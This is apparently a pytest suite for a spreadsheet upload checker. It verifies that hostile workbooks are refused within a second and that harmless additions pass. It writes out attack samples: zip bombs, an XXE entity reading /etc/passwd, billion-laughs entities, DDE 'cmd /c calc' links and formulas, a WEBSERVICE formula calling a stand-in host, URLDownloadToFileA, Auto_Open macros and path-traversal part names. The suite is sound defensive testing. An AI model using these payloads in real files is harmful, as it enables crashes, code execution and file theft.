"""Workbooks made to do harm are refused with a sentence, in well under a second, before anything in them is used."""

from __future__ import annotations

import io
import random
import re
import struct
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from pia_app.errors import FaultyFiles
from pia_app.wording import LANGUAGES, explain
from tests.exchange.tasks.support import judged, look, packed, parts_of, sound

SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
BOOK = "xl/workbook.xml"
BOOK_RELS = "xl/_rels/workbook.xml.rels"
TYPES = "[Content_Types].xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
Parts = dict[str, bytes]


def with_parts(change: Callable[[Parts], object]) -> Callable[[], bytes]:
    """Return a maker of the sound workbook with some parts changed."""

    def make() -> bytes:
        parts = parts_of(sound())
        change(parts)
        return packed(parts)

    return make


def put(name: str, content: bytes) -> Callable[[], bytes]:
    """Return a maker of the sound workbook with other content in one part."""
    return with_parts(lambda parts: parts.update({name: content}))


def swap(name: str, old: bytes, new: bytes) -> Callable[[], bytes]:
    def change(parts: Parts) -> None:
        assert old in parts[name], (name, old)
        parts[name] = parts[name].replace(old, new, 1)

    return with_parts(change)


def add(name: str, content: bytes = b"x", kind: str = "", rel: str = "", outside: str = "") -> Callable[[], bytes]:
    """Return a maker of the sound workbook with a part more, declared and related as it would be."""

    def change(parts: Parts) -> None:
        parts[name] = content
        if kind:
            declared = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'.encode()
            parts[TYPES] = parts[TYPES].replace(b"</Types>", declared)
        if rel:
            target = f'Target="{outside}" TargetMode="External"' if outside else f'Target="/{name}"'
            related = f'<Relationship Id="rX" Type="{OFFICE}/{rel}" {target}/></Relationships>'.encode()
            parts[BOOK_RELS] = parts[BOOK_RELS].replace(b"</Relationships>", related)

    return with_parts(change)


def formula(text: str) -> Callable[[], bytes]:
    """Return a maker of the sound workbook with a formula beside the list."""
    return swap(
        SHEET, b"</sheetData>", f'<row r="900"><c r="Z900"><f>{text}</f><v>0</v></c></row></sheetData>'.encode()
    )


def flagged() -> bytes:
    """Return the sound workbook, said to be encrypted part by part."""
    data = bytearray(sound())
    for found in re.finditer(b"PK\x01\x02", bytes(data)):
        data[found.start() + 8] |= 1
    for found in re.finditer(b"PK\x03\x04", bytes(data)):
        data[found.start() + 6] |= 1
    return bytes(data)


def lying() -> bytes:
    """Return a workbook with a part that says it unpacks to ten bytes and unpacks to 60 MB."""
    data = bytearray(packed({**parts_of(sound()), STRINGS: b" " * 60_000_000}))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        entry = archive.getinfo(STRINGS)
    size = struct.pack("<L", entry.file_size)
    return bytes(data).replace(size, struct.pack("<L", 10))


def overlapping() -> bytes:
    """Return a package whose directory names the same compressed megabytes three hundred times."""
    name = b"xl/a000.xml"
    data = packed({name.decode(): b" " * 10_000_000 + bytes(range(256)) * 200})
    start, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    one = data[start:end]
    directory = b"".join(one.replace(name, f"xl/a{n:03}.xml".encode()) for n in range(300))
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 300, 300, len(directory), start, 0)
    return data[:start] + directory + tail


def deep() -> bytes:
    nested = b"<a>" * 400_000 + b"</a>" * 400_000
    return swap(SHEET, b"</sheetData>", nested + b"</sheetData>")()


def merged() -> bytes:
    refs = b'<mergeCell ref="A1:XFD1048576"/>' * 200
    return swap(SHEET, b"</sheetData>", b"</sheetData><mergeCells>" + refs + b"</mergeCells>")()


def twins() -> bytes:
    parts = parts_of(sound())
    stream = io.BytesIO(packed(parts))
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("XL/WORKBOOK.XML", parts[BOOK])
    return stream.getvalue()


def same_sheet_often() -> bytes:
    sheet = b'<sheet name="s%d" sheetId="%d" r:id="rId1"/>'
    return swap(BOOK, b"</sheets>", b"".join(sheet % (n, n) for n in range(10, 200)) + b"</sheets>")()


LAUGHS = b'<!DOCTYPE s [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (n, b"&%c;" % (n - 1) * 10) for n in range(98, 110)
) + b"]>"  # fmt: skip
DDE_LINK = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
LAST_CELL = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
UTF16 = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'

HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "bomb of one part": (with_parts(lambda p: p.update({STRINGS: b" " * 90_000_000})), "tasks_unpacks_too_large"),
    "bomb of many parts": (
        with_parts(lambda p: p.update({f"xl/media/{n}.png": b" " * 9_000_000 for n in range(12)})),
        "tasks_unpacks_too_large",
    ),
    "sizes that lie": (lying, "tasks_not_a_workbook"),
    "overlapping entries": (overlapping, "tasks_not_a_workbook"),
    "thousands of parts": (
        with_parts(lambda p: p.update({f"xl/{n}.xml": b"<x/>" for n in range(5_000)})), "tasks_too_many_parts",
    ),
    "millions of cells": (
        swap(SHEET, b"</sheetData>", b"<row><c/></row>" * 1_100_000 + b"</sheetData>"), "tasks_too_many_cells",
    ),
    "elements within elements": (deep, ""),
    "a hundred thousand formats": (
        swap("xl/styles.xml", b"</cellXfs>", b'<xf numFmtId="14"/>' * 100_000 + b"</cellXfs>"), "tasks_too_many_cells",
    ),
    "a hundred thousand names": (
        swap(BOOK, b"</definedNames>", b'<definedName name="a">A1</definedName>' * 100_000 + b"</definedNames>"),
        "tasks_too_many_cells",
    ),
    "rows without end": (
        swap(SHEET, b"</sheetData>", b"<row><c><v>1</v></c></row>" * 250_000 + b"</sheetData>"), "tasks_too_many_rows",
    ),
    "a tag without end": (
        swap(SHEET, b"</sheetData>", b"<row " + b'a="1" ' * 400_000 + b"/></sheetData>"), "tasks_not_xml",
    ),
    "merged without end": (merged, "tasks_too_many_merged"),
    "one sheet two hundred times": (same_sheet_often, "tasks_too_many_sheets"),
    "a formula without end": (formula("|" * 30_000_000), "tasks_live_content"),
    "entity from a file": (
        swap(SHEET, HEAD, HEAD + b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'), "tasks_doctype",
    ),
    "entities that multiply": (swap(STRINGS, HEAD, HEAD + LAUGHS), "tasks_doctype"),
    "document type hidden in UTF-16": (put(SHEET, UTF16.encode("utf-16")), "tasks_encoding"),
    "UTF-16 without a mark": (put(SHEET, UTF16.encode("utf-16-le")), "tasks_encoding"),
    "UTF-7": (swap(SHEET, HEAD, b'<?xml version="1.0" encoding="UTF-7"?>'), "tasks_encoding"),
    "macros": (
        add("xl/vbaProject.bin", kind="application/vnd.ms-office.vbaProject", rel="vbaProject"), "tasks_live_content",
    ),
    "macros without relationship": (add("xl/vbaProject.bin"), "tasks_live_content"),
    "a workbook of macros, renamed": (
        swap(TYPES, b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
             b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "tasks_live_content",
    ),
    "a sheet of old macros": (
        add("xl/macrosheets/sheet1.xml", b"<x/>", "application/vnd.ms-excel.macrosheet+xml", "xlMacrosheet"),
        "tasks_live_content",
    ),
    "a macro that starts by itself": (
        swap(BOOK, b"</definedNames>", b'<definedName name="Auto_Open">Sheet1!$A$1</definedName></definedNames>'),
        "tasks_live_content",
    ),
    "a link to another workbook": (
        add("xl/externalLinks/externalLink1.xml", b"<externalLink/>", rel="externalLink"), "tasks_live_content",
    ),
    "a DDE link": (
        add("xl/externalLinks/externalLink1.xml", DDE_LINK,
            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml", "externalLink"),
        "tasks_live_content",
    ),
    "a DDE formula": (formula("cmd|'/c calc'!A0"), "tasks_live_content"),
    "a formula that fetches": (formula("WEBSERVICE(&quot;http://x.example/&quot;&amp;A1)"), "tasks_live_content"),
    "a formula that calls": (formula("CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;)"), "tasks_live_content"),
    "a formula on another workbook": (formula("[1]Sheet1!A1"), "tasks_live_content"),
    "an embedded object": (add("xl/embeddings/oleObject1.bin", rel="oleObject"), "tasks_live_content"),
    "an embedded package": (add("xl/embeddings/x.docx", rel="package"), "tasks_live_content"),
    "a control": (add("xl/activeX/activeX1.xml", b"<x/>", rel="control"), "tasks_live_content"),
    "a data connection": (add("xl/connections.xml", b"<connections/>", rel="connections"), "tasks_live_content"),
    "a picture from elsewhere": (
        add("xl/x.xml", b"<x/>", rel="image", outside="file://server/share/x.png"), "tasks_live_content",
    ),
    "a template from elsewhere": (
        add("xl/x.xml", b"<x/>", rel="attachedTemplate", outside="http://x.example/t.xltm"), "tasks_live_content",
    ),
    "a ribbon of its own": (add("customUI/customUI.xml", b"<customUI/>", rel="extensibility"), "tasks_live_content"),
    "a program": (add("xl/media/x.exe"), "tasks_live_content"),
    "a name that climbs": (add("../../evil.xml"), "tasks_part_name"),
    "a name from the root": (add("/etc/evil.xml"), "tasks_part_name"),
    "a name of Windows": (add("C:\\evil.xml"), "tasks_part_name"),
    "a name that turns round": (add("xl/\u202egnp.exe.xml"), "tasks_part_name"),
    "names that differ in case only": (twins, "tasks_part_twice"),
    "locked parts": (flagged, "tasks_not_a_workbook"),
    "a password": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2_000, "tasks_old_or_locked"),
    "another compression": (lambda: packed(parts_of(sound()), compression=zipfile.ZIP_LZMA), "tasks_not_a_workbook"),
    "broken XML": (swap(SHEET, b"</sheetData>", b"</sheetDat>"), "tasks_not_a_workbook"),
    "a string that is not there": (swap(SHEET, b"<v>0</v>", b"<v>99999</v>"), "tasks_not_a_workbook"),
    "no workbook in it": (with_parts(lambda p: p.pop(BOOK)), "tasks_not_a_workbook"),
    "no types": (with_parts(lambda p: p.pop(TYPES)), "tasks_not_a_workbook"),
    "no relationships": (with_parts(lambda p: p.pop(BOOK_RELS)), "tasks_not_a_workbook"),
    "cut off": (lambda: sound()[:3_000], "tasks_not_a_workbook"),
    "nothing": (lambda: b"", "tasks_not_a_workbook"),
    "a web page": (lambda: b"<html><table><tr><td>=cmd</td></tr></table></html>", "tasks_not_a_workbook"),
    "far too large": (lambda: b"PK\x03\x04" + b"\x00" * 20_000_001, "tasks_too_large"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_workbook_is_refused_at_once_with_a_sentence(tmp_path: Path, name: str) -> None:
    make, code = HOSTILE[name]
    path = tmp_path / "t.xlsx"
    path.write_bytes(make())
    judged()
    before = time.process_time()
    try:
        found = look(path, judged())
    except FaultyFiles as error:
        assert time.process_time() - before < 1
        assert code in [fault.code for fault in error.faults]
        for language in LANGUAGES:
            told = explain(language, error)
            assert not any(fault.code in told for fault in error.faults)
    else:
        assert code == ""
        assert found.clean and not found.changes
    assert [p.name for p in tmp_path.iterdir()] == ["t.xlsx"]


def test_the_workbook_they_were_made_from_is_read(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    path.write_bytes(packed(parts_of(sound())))
    assert look(path, judged()).clean


HARMLESS: dict[str, Callable[[], bytes]] = {
    "an area that lies": swap(SHEET, b"<dimension ref=", b'<dimension ref="A1:XFD1048576"/><x ref='),
    "a cell at the very end": swap(SHEET, b"</sheetData>", LAST_CELL),
    "a link to click on": add("xl/x.xml", b"<x/>", rel="hyperlink", outside="https://example.org/"),
    "a link into the office": add("xl/x.xml", b"<x/>", rel="hyperlink", outside="file://server/share/minutes.docx"),
    "settings of a printer": add("xl/printerSettings/printerSettings1.bin", rel="printerSettings"),
    "notes beside cells": add("xl/comments1.xml", b"<comments/>", rel="comments"),
    "a label of secrecy": add("docMetadata/LabelInfo.xml", b"<x/>", rel="classificationlabels"),
    "properties of WPS": add("docProps/custom.xml", b"<Properties/>", rel="custom-properties"),
    "a sum of their own": formula("SUM(I2:I9)&amp;&quot;|x!&quot;"),
}  # fmt: skip


@pytest.mark.parametrize("name", HARMLESS)
def test_what_people_and_programs_add_is_no_reason_to_refuse(tmp_path: Path, name: str) -> None:
    path = tmp_path / "t.xlsx"
    path.write_bytes(HARMLESS[name]())
    found = look(path, judged())
    assert (found.clean, found.changes) == (True, ())


def test_a_cell_of_thirty_megabytes_is_told_at_once(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    long = b'<c r="N2" t="inlineStr"><is><t>' + b"<![CDATA[=_x0041]]>" + b"x" * 30_000_000 + b"</t></is></c></row>"
    path.write_bytes(with_parts(lambda p: p.update({SHEET: p[SHEET].replace(b"</row>", b"\x01", 2).replace(
        b"\x01", b"</row>", 1).replace(b"\x01", long, 1)}))())  # fmt: skip
    before = time.process_time()
    found = look(path, judged())
    assert time.process_time() - before < 1
    assert [fault.code for fault in found.bad] == ["tasks_text_too_long"]


def test_random_damage_never_gets_further_than_a_refusal_or_a_preview(tmp_path: Path) -> None:
    dice = random.Random(5)
    data, path = sound(), tmp_path / "t.xlsx"
    for _ in range(80):
        broken = bytearray(data)
        for _ in range(dice.randrange(1, 6)):
            broken[dice.randrange(len(broken))] = dice.randrange(256)
        path.write_bytes(bytes(broken))
        try:
            look(path, judged())
        except FaultyFiles as error:
            assert error.faults


def test_random_damage_inside_the_parts_never_gets_further_either(tmp_path: Path) -> None:
    dice = random.Random(6)
    parts, path = parts_of(sound()), tmp_path / "t.xlsx"
    for _ in range(80):
        name = dice.choice(
            [SHEET, STRINGS, BOOK, BOOK_RELS, "xl/styles.xml", TYPES, "_rels/.rels", "xl/worksheets/sheet3.xml"]
        )
        broken = bytearray(parts[name])
        for _ in range(dice.randrange(1, 4)):
            place = dice.randrange(len(broken))
            broken[place : place + dice.randrange(3)] = bytes(dice.randrange(32, 127) for _ in range(dice.randrange(3)))
        path.write_bytes(packed({**parts, name: bytes(broken)}))
        try:
            look(path, judged())
        except FaultyFiles as error:
            assert error.faults
